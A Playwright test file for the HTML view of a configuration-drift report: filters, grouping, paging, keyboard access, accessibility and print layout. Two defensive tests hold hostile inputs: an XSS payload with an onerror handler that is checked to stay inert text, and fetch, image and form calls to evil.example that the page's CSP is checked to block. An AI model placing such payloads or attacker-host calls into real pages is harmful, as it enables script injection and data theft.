import { readFileSync } from "node:fs";
import type { Locator, Page } from "playwright-core";
import type { ReportContext } from "../../../drift/report/context";
import { formats } from "../../../drift/report/formats";
import type { DriftReport } from "../../../drift/scan/document";
import { nightly } from "../../nightly";
import { groupedReport } from "../grouped-report";
import { sampleReport } from "../sample-report";
import { inBrowser, type Opening, title, useBrowser } from "./browser";
import { hostileReport } from "./hostile-report";

/** 5,000 findings over 50 accounts, each with one changed field. */
const largeReport: DriftReport = {
  ...sampleReport,
  findings: Array.from({ length: 5000 }, (_, index) => ({
    ...sampleReport.findings[0]!,
    fingerprint: `f${index}`,
    severity: (["error", "warning", "note"] as const)[index % 3]!,
    account: `account-${index % 50}`,
    name: `accounts/account-${index % 50}/deployments/d${index}`,
    changes: [
      {
        path: "maxReplicaCount",
        kind: "changed" as const,
        recorded: index,
        live: index + 1,
        severity: "warning" as const,
        managed: true,
      },
    ],
  })),
};

const browser = useBrowser();

/** The page of a report. */
function open(
  report: DriftReport,
  { patches, ...opening }: Opening & { patches?: NonNullable<ReportContext["patches"]> } = {},
): Promise<Page> {
  const html = formats["html"]!.render(report, { columns: 80, color: false, ...(patches && { patches }) });
  return browser.open(html, opening);
}

/** Opens an entry of the list: a page fills what opens after it has opened. */
async function openEntry(page: Page, nth = 0): Promise<Locator> {
  await page.locator("#list summary").nth(nth).click();
  const entry = page.locator("#list details[open]");
  await entry.locator(".changes").waitFor();
  return entry;
}

const objects = (page: Page): Promise<string[]> => page.locator("#list .object").allTextContents();
const status = (page: Page): Promise<string> => page.locator("#status").innerText();
const focused = (page: Page): Promise<string> =>
  page.evaluate(
    `(() => { const e = document.activeElement; return e.id || e.dataset.verdict || e.dataset.account || e.value || e.className || e.querySelector?.(".object")?.textContent || e.textContent; })()`,
  );

inBrowser(title("the findings are listed, the severe ones first and the accepted ones last"), async () => {
  const page = await open(sampleReport);
  expect(await page.title()).toBe(
    "Drift found: 5 objects differ from the stacks, and not everything could be read – modelplatform drift",
  );
  expect(await status(page)).toBe("11 findings");
  expect((await objects(page)).slice(0, 4)).toEqual([
    "Deployment chat",
    "PolicySettings of acme",
    "Deployment batch",
    "DeployedModel support-8b-x1",
  ]);
  expect((await objects(page)).at(-1)).toBe("Model support-8b");
});

inBrowser.each([390, 1280])(title("a cause opens to its fields and members, %d pixels wide"), async (width) => {
  const page = await open(groupedReport, { width, height: 844 });
  expect(await objects(page)).toEqual(["2 × User", "15 × Deployment", "Deployment chat-3"]);
  expect(await status(page)).toBe("3 causes of 17 findings");
  const cause = await openEntry(page, 1);
  expect(await cause.locator(".members li").count()).toBe(15);
  expect(await cause.locator(".changes tbody tr").innerText()).toContain("(various)");
  expect(await page.evaluate("document.documentElement.scrollWidth")).toBeLessThanOrEqual(width);
  await cause.getByRole("button", { name: "List them one by one" }).click();
  expect(await status(page)).toBe("15 findings (17 in all)");
  expect((await objects(page)).every((object) => object.startsWith("Deployment chat-"))).toBe(true);
});

inBrowser(title("a link from a cause leads to its member, which stands alone then"), async () => {
  const page = await open(groupedReport);
  await openEntry(page, 1);
  await page.locator(".members a", { hasText: "chat-8" }).click();
  await page.locator("#list details[open] .changes").waitFor();
  expect(await page.locator("#list details[open] .object").innerText()).toBe("Deployment chat-8");
});

inBrowser(title("a filter that leaves one member of a cause shows that finding"), async () => {
  const page = await open(groupedReport);
  await page.locator("#text").fill("chat-8");
  expect(await objects(page)).toEqual(["Deployment chat-8"]);
  await page.locator("#text").fill("chat-1");
  expect(await objects(page)).toEqual(["6 × Deployment"]);
});

inBrowser(title("a finding has what accepts it and what sets it back, to copy, and fits a narrow window"), async () => {
  const patch = `--- a/index.ts\n+++ b/index.ts\n-${"  old();".repeat(30)}\n+  fresh();\n`;
  const [finding] = sampleReport.findings;
  const patches = new Map([[finding!.fingerprint, { patch, left: ["`role` opens up `role`"] }]]);
  const page = await open(sampleReport, { patches, width: 400, height: 800 });
  await openEntry(page);
  const remedies = page.locator("#list details[open] .remedy");
  expect(await remedies.locator("h3").allTextContents()).toEqual([
    "Accept the rest: a patch for git apply",
    "Accept the rest: run this in the program's folder",
    "Revert it",
  ]);
  expect(await remedies.locator("pre").first().textContent()).toBe(patch);
  expect(await page.locator("#list details[open] .body > .next").last().textContent()).toBe(
    "A person has to look at this: role opens up role.",
  );
  expect(await page.evaluate("document.documentElement.scrollWidth")).toBeLessThanOrEqual(400);
  await remedies.getByRole("button").nth(2).click();
  await remedies.getByText(/Copied|Selected/).waitFor();
});

inBrowser.each([390, 768, 1280])(title("everything is readable %d pixels wide"), async (width) => {
  const [finding] = sampleReport.findings;
  const patches = new Map([[finding!.fingerprint, { patch: "+  fresh();\n", left: ["`role` opens up `role`"] }]]);
  const page = await open(sampleReport, { patches, width, height: 844 });
  await openEntry(page);
  const boxes = await page.evaluate<{ name: string; left: number; right: number; width: number; height: number }[]>(`
    [...document.querySelectorAll(".changes td, .changes tbody th, .accounts td, summary > span")].map((cell) => {
      const range = document.createRange();
      range.selectNodeContents(cell);
      const { left, right, height } = range.getBoundingClientRect();
      return { name: cell.textContent, left, right, width: cell.getBoundingClientRect().width, height };
    })`);
  expect(boxes.filter(({ left, right }) => left < 0 || right > width)).toEqual([]);
  // A text that is narrow and many lines high is one word per line.
  expect(boxes.filter((box) => box.name.length > 20 && box.width < 110 && box.height > 100)).toEqual([]);
  expect(await page.evaluate("document.documentElement.scrollWidth")).toBeLessThanOrEqual(width);
});

inBrowser(title("a narrow window lays no accounts over the findings"), async () => {
  const accounts = Array.from({ length: 14 }, (_, index) => ({
    ...sampleReport.accounts[0]!,
    account: `team-${index}`,
  }));
  const page = await open({ ...sampleReport, accounts }, { width: 390, height: 844 });
  const panel = (await page.locator(".accounts").boundingBox())!;
  const list = (await page.locator("#list").boundingBox())!;
  expect(panel.y).toBeGreaterThanOrEqual(list.y + list.height);
});

inBrowser(title("what a person has to look at stands before what accepts the rest"), async () => {
  const [finding] = sampleReport.findings;
  const patches = new Map([[finding!.fingerprint, { patch: "+  fresh();\n", left: ["`role` opens up `role`"] }]]);
  const page = await open(sampleReport, { patches });
  await openEntry(page);
  const headings = await page
    .locator("#list details[open] .body > .next, #list details[open] .remedy h3")
    .allTextContents();
  expect(headings.slice(1)).toEqual([
    "A person has to look at this: role opens up role.",
    "Accept the rest: a patch for git apply",
    "Accept the rest: run this in the program's folder",
    "Revert it",
  ]);
});

inBrowser(title("a finding opens to its fields, with what differs marked on both sides"), async () => {
  const page = await open({
    ...sampleReport,
    findings: [
      {
        ...sampleReport.findings[0]!,
        changes: [
          {
            path: "rules",
            kind: "changed",
            recorded: { a: 1, b: "x" },
            live: { a: 1, b: "y" },
            severity: "error",
            managed: false,
          },
        ],
      },
    ],
  });
  await page.getByText("Deployment chat").click();
  const row = page.locator(".changes tbody tr");
  await row.waitFor();
  expect(await row.locator("th, td").allInnerTexts()).toEqual([
    "rules",
    '{\n  "a": 1,\n  "b": "x"\n}',
    '{\n  "a": 1,\n  "b": "y"\n}',
    "error\nnot set by the program",
  ]);
  expect([await row.locator("del").allTextContents(), await row.locator("ins").allTextContents()]).toEqual([
    ["x"],
    ["y"],
  ]);
  expect(await page.locator(".next").innerText()).toContain("pulumi up --refresh");
});

inBrowser(
  title("tiles, account, severity, text and acceptance filter, alone and together, and Reset undoes it"),
  async () => {
    const page = await open(sampleReport);
    await page.getByRole("button", { name: "missing" }).click();
    expect(await objects(page)).toEqual(["DeployedModel support-8b-x1"]);
    await page.getByRole("button", { name: "forbidden" }).click();
    expect(await status(page)).toBe("2 findings (11 in all)");
    await page.locator("#account").selectOption("globex");
    expect(await objects(page)).toEqual(["User ada"]);
    await page.getByRole("button", { name: "Reset" }).click();
    await page.locator("#status", { hasText: /^11 findings$/ }).waitFor();
    await page.getByRole("checkbox", { name: "note" }).check();
    expect(await status(page)).toBe("3 findings (11 in all)");
    await page.getByRole("checkbox", { name: "note" }).uncheck();
    await page.getByRole("checkbox", { name: "hide accepted" }).check();
    expect(await objects(page)).not.toContain("Model support-8b");
    await page.getByRole("searchbox").fill("INTERNET replica");
    expect(await objects(page)).toEqual(["Deployment chat"]);
    await page.getByRole("searchbox").fill("nothing has this in it");
    expect(await page.getByText("Nothing to show.").isVisible()).toBe(true);
  },
);

inBrowser(title("an account's name in the table filters by it"), async () => {
  const page = await open(sampleReport);
  await page.getByRole("button", { name: "initech" }).click();
  expect(await objects(page)).toEqual(["Secret tracking"]);
  expect(await focused(page)).toBe("account");
});

inBrowser(title("the address leads to a finding, and keeps what is chosen"), async () => {
  const page = await open(largeReport, { hash: "#finding=f4321" });
  expect(await page.locator("details[open] .object").innerText()).toBe("Deployment d4321");
  expect(await focused(page)).toBe("Deployment d4321");
  await page.getByRole("searchbox").fill("d77");
  await page.reload();
  expect(await page.getByRole("searchbox").inputValue()).toBe("d77");
  expect(await status(page)).toBe("11 findings (5000 in all)");
  const filtered = await open(sampleReport, { hash: "#verdict=missing&verdict=error&account=acme" });
  expect(await objects(filtered)).toEqual(["DeployedModel support-8b-x1"]);
});

inBrowser(
  title("5,000 findings never put more than a page of rows into the document, whatever is filtered"),
  async () => {
    const page = await open(largeReport);
    const rows = (): Promise<number> => page.locator("#list > li").count();
    expect([await rows(), await status(page)]).toEqual([100, "1–100 of 5000 findings"]);
    await page.getByRole("searchbox").fill("d49");
    expect([await rows(), await status(page)]).toEqual([100, "1–100 of 111 findings (5000 in all)"]);
    await page.getByRole("button", { name: "Next" }).click();
    expect([await rows(), await status(page)]).toEqual([11, "101–111 of 111 findings (5000 in all)"]);
    expect(await page.locator("*").count()).toBeLessThan(3000);
  },
);

inBrowser(title("the keyboard alone reaches and works everything"), async () => {
  const page = await open(sampleReport);
  const reached: string[] = [];
  for (let step = 0; step < 40; step++) {
    await page.keyboard.press("Tab");
    reached.push(await focused(page));
  }
  const wanted = [
    "skip",
    "changed",
    "missing",
    "unverifiable",
    "acme",
    "globex",
    "text",
    "account",
    "error",
    "warning",
    "note",
    "accepted",
    "order",
    "Deployment chat",
    "Model support-8b",
  ];
  expect(wanted.filter((name) => !reached.includes(name))).toEqual([]);
  await page.locator("summary").first().focus();
  await page.keyboard.press("Enter");
  await page.locator("details[open] .changes").waitFor();
  await page.locator("[data-verdict=missing]").focus();
  await page.keyboard.press("Space");
  expect(await page.locator("[data-verdict=missing]").getAttribute("aria-pressed")).toBe("true");
});

inBrowser(title("texts of a hostile report stay texts"), async () => {
  const page = await open(hostileReport);
  await openEntry(page);
  expect(await page.title()).not.toBe("taken over");
  expect(await page.locator("img, svg, x, script:not([id]):not(:last-of-type)").count()).toBe(0);
  expect(await page.locator(".changes pre").first().innerText()).toBe(
    `</script><img src=x onerror="document.title='taken over'">`,
  );
});

inBrowser(title("a finding that the filters of the address leave out is shown without them"), async () => {
  const page = await open(sampleReport, { hash: "#verdict=missing&finding=c0ffee1234567890" });
  await page.locator("details[open]").first().waitFor();
  expect(await page.locator("details[open] .object").innerText()).toBe("Secret storage-key");
  expect(await status(page)).toBe("11 findings");
});

inBrowser(title("its policy lets nothing in or out"), async () => {
  const page = await open(sampleReport);
  const violated = (deed: string): Promise<unknown> =>
    page.evaluate(
      `new Promise((resolve) => { addEventListener("securitypolicyviolation", ({ effectiveDirective }) => resolve(effectiveDirective), { once: true }); ${deed} })`,
    );
  expect(await violated(`fetch("https://evil.example").catch(() => {})`)).toBe("connect-src");
  expect(
    await violated(`document.body.append(Object.assign(new Image(), { src: "https://evil.example/x.png" }))`),
  ).toBe("img-src");
  expect(
    await violated(
      `document.body.append(Object.assign(document.createElement("form"), { action: "https://evil.example" })); document.forms[1].submit()`,
    ),
  ).toBe("form-action");
  expect(await violated(`try { document.body.innerHTML = "<b>x</b>"; } catch {}`)).toBe("require-trusted-types-for");
  expect(browser.complaints.splice(0).length).toBeGreaterThan(0);
});

inBrowser(title("in print every finding is there, opened"), async () => {
  const page = await open(largeReport, { hash: "#text=d49" });
  await page.evaluate(`dispatchEvent(new Event("beforeprint"))`);
  expect(await page.locator("details[open] .changes").count()).toBe(111);
  await page.evaluate(`dispatchEvent(new Event("afterprint"))`);
  expect(await page.locator("#list > li").count()).toBe(100);
});

const expectAccessible = async (colorScheme: "light" | "dark", width: number): Promise<void> => {
  const page = await open(sampleReport, { colorScheme, bypassCSP: true, width, height: 844 });
  await openEntry(page);
  await page.locator(".changes").waitFor();
  await page.evaluate(readFileSync(require.resolve("axe-core/axe.min.js"), "utf8"));
  const found = await page.evaluate<{
    violations: { id: string; nodes: { html: string; failureSummary: string }[] }[];
  }>(`axe.run(document, { resultTypes: ["violations"] })`);
  expect(
    found.violations.map(({ id, nodes }) => ({
      id,
      nodes: nodes.map(({ html, failureSummary }) => `${html}: ${failureSummary}`),
    })),
  ).toEqual([]);
};

inBrowser.each([
  ["light", 390],
  ["dark", 1180],
] as const)(title("accessible, by axe, in the %s scheme, %d pixels wide"), expectAccessible);

nightly("each scheme and each width is judged beside it, in two pages", () => {
  inBrowser.each([
    ["light", 1180],
    ["dark", 390],
  ] as const)(title("accessible, by axe, in the %s scheme, %d pixels wide"), expectAccessible);
});

inBrowser(title("the two schemes differ in their colours"), async () => {
  const back = async (colorScheme: "light" | "dark"): Promise<string> =>
    (await open(sampleReport, { colorScheme })).evaluate(`getComputedStyle(document.body).backgroundColor`);
  expect(await back("light")).not.toBe(await back("dark"));
});

inBrowser(title("paper is white, whatever the scheme of the screen"), async () => {
  const page = await open(sampleReport, { colorScheme: "dark" });
  await page.emulateMedia({ media: "print", colorScheme: "dark" });
  expect(
    await page.evaluate(`[getComputedStyle(document.body).backgroundColor, getComputedStyle(document.body).color]`),
  ).toEqual(["rgb(255, 255, 255)", "rgb(0, 0, 0)"]);
});
